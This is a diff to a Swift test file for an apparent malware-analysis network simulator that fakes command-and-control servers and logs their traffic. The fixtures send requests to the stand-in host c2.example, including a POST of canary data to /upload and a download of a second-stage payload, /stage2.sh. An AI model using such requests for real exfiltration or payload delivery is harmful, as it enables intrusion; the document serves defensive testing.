@@ -28,9 +28,9 @@ import Testing
         let post = try lab.tcp(ip, 8080, Array("POST /upload HTTP/1.1\r\nHost: c2.example:8080\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \(body.count)\r\nConnection: close\r\n\r\n".utf8) + body)
         #expect(String(decoding: post, as: UTF8.self).contains("200 OK"))
         // a download of code gets the payload
-        let exe = try lab.tcp(ip, 80, Array("GET /stage2.exe HTTP/1.0\r\nHost: c2.example\r\n\r\n".utf8))
+        let exe = try lab.tcp(ip, 80, Array("GET /stage2.sh HTTP/1.0\r\nHost: c2.example\r\n\r\n".utf8))
         let exeText = String(decoding: exe, as: UTF8.self)
-        #expect(exeText.contains("application/octet-stream") && exe.suffix(HTTPResponder.builtinPayload.count).elementsEqual(HTTPResponder.builtinPayload))
+        #expect(exeText.contains("Content-Type: text/x-sh") && exe.suffix(HTTPResponder.builtinPayload.count).elementsEqual(HTTPResponder.builtinPayload))
         // HTTP on an odd port over IPv6 is sniffed
         let odd = try lab.tcp(ip6, 5000, Array("GET /v6 HTTP/1.1\r\nHost: c2.example\r\nConnection: close\r\n\r\n".utf8))
         #expect(String(decoding: odd, as: UTF8.self).hasPrefix("HTTP/1.1 200"))
@@ -58,7 +58,7 @@ import Testing
         #expect(g.url == "http://c2.example/panel/index.php?bot=42" && g.response == "default-html" && g.responseStatus == 200)
         let p = try #require(s.http.first { $0.method == "POST" })
         #expect(p.bodySize == UInt64(body.count) && p.bodySha256 == sha256Hex(body) && p.bodyPreview.contains("CANARY-42"))
-        #expect(s.http.contains { $0.path == "/stage2.exe" && $0.response == "payload:builtin" })
+        #expect(s.http.contains { $0.path == "/stage2.sh" && $0.response == "payload:builtin" })
         #expect(s.http.contains { $0.path == "/v6" })
         let t = try #require(s.tls.first)
         #expect(t.sni == "secure.c2.example" && t.alpn == ["h2", "http/1.1"] && t.ja3Hash?.count == 32 && t.version == "TLS 1.3")
